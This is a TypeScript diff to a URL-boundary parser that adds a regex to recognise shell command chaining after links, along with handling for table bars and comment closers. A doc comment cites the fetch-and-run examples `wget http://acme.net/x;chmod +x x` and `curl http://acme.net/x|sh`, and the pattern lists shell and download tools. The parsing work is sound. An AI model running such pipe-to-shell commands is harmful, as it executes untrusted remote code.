@@ -12,6 +12,13 @@ const NEXT_URL = new RegExp(`[,;|](?:${SCHEME}|www\\.)`, 'iy');
 const END_ENTITY =
   /&(?:quot|lt|gt|apos|nbsp|[lr]squo|[lr]dquo|[lr]aquo|hellip|#0*(?:9|10|13|3[249]|6[02]|96|160)|#x0*(?:[9ad]|2[027]|3[ce]|60|a0));/iy;
 
+/** The next command of a shell: `wget http://acme.net/x;chmod +x x`, `curl http://acme.net/x|sh`. */
+const COMMAND = new RegExp(
+  '(?:;|[|&]{1,2})(?:\\./\\S|(?:(?:ba|z|da|k|a|c|fi|pw)?sh|powershell|iex|sudo|su|chmod|chown|rm|mv|cp|cd|ls|cat|tee|tar|' +
+    'unzip|gunzip|gzip|xargs|e?grep|sed|awk|jq|head|tail|less|more|wc|sort|echo|exit|export|source|eval|exec|nohup|curl|' +
+    'wget|tftp|busybox|python[23]?|perl|ruby|node|php|env|base64|openssl|kill|sleep|mkdir|touch)(?=$|[\\s;|&"\'`)>]))',
+  'y',
+);
 const ENTITY_LETTERS = new Set('aqlgnhrAQLGNHR#');
 const SCHEME_LETTERS = new Set('hfwHFW');
 
@@ -40,10 +47,12 @@ function classOf(line: string, at: number): number {
   return END.test(line[at] ?? '') ? ENDING : PLAIN;
 }
 
+/** @param bars whether a `|` ends it: behind `<`, `[` or `|` (Slack's and a wiki's links, cells of a table) */
 export function readRest(
   line: string,
   begin: number,
   limit: number,
+  bars: boolean,
 ): { readonly end: number; readonly text: string } {
   const opened: Opened = { round: 0, square: 0, curly: 0 };
   let text = '';
@@ -61,7 +70,7 @@ export function readRest(
       if (kind === PLAIN) end = at;
       continue;
     }
-    const special = specialAt(line, at, opened);
+    const special = bars && line[at] === '|' ? null : specialAt(line, at, opened);
     if (special === null) break;
     const next = at + special.written;
     if (special.text !== null) {
@@ -73,7 +82,15 @@ export function readRest(
     if (!special.trailing) end = next;
     at = next;
   }
-  return { end, text: end > from ? text + line.slice(from, end) : text.slice(0, length) };
+  const whole = end > from ? text + line.slice(from, end) : text.slice(0, length);
+  // What closes a comment around it: `/*http://acme.net/x*/`, `<!--http://acme.net/x-->`.
+  const close = whole.endsWith('*/')
+    ? /[.,;:!?*]+\/$/
+    : line[at] === '>' && whole.endsWith('--')
+      ? /--$/
+      : null;
+  const comment = close === null ? 0 : (close.exec(whole)?.[0].length ?? 0);
+  return { end: end - comment, text: whole.slice(0, whole.length - comment) };
 }
 
 interface Special {
@@ -103,16 +120,18 @@ function specialAt(line: string, at: number, opened: Opened): Special | null {
     case '\\':
       return next === '/' ? SLASH : null;
     case '&':
+      if (next === '&' && sticky(COMMAND, line, at) !== null) return null;
       if (!ENTITY_LETTERS.has(next)) return ITSELF;
       if (line.slice(at, at + 5).toLowerCase() === '&amp;') return AMPERSAND;
       return sticky(END_ENTITY, line, at) === null ? ITSELF : null;
     case '|':
       // The cell of a table.
-      if (next === '' || /[\s|]/.test(next)) return null;
-      return sticky(NEXT_URL, line, at) === null ? ITSELF : null;
+      if (next === '' || (/[\s|]/.test(next) && line[at + 2] !== '|')) return null;
+      return sticky(NEXT_URL, line, at) === null && sticky(COMMAND, line, at) === null ? ITSELF : null;
     case ',':
     case ';':
-      return SCHEME_LETTERS.has(next) && sticky(NEXT_URL, line, at) !== null ? null : PUNCTUATION;
+      if (SCHEME_LETTERS.has(next) && sticky(NEXT_URL, line, at) !== null) return null;
+      return line[at] === ';' && sticky(COMMAND, line, at) !== null ? null : PUNCTUATION;
     case '(':
     case '[': {
       const dot = next === '.' || next === 'd' || next === 'D' ? sticky(DEFANGED, line, at) : null;
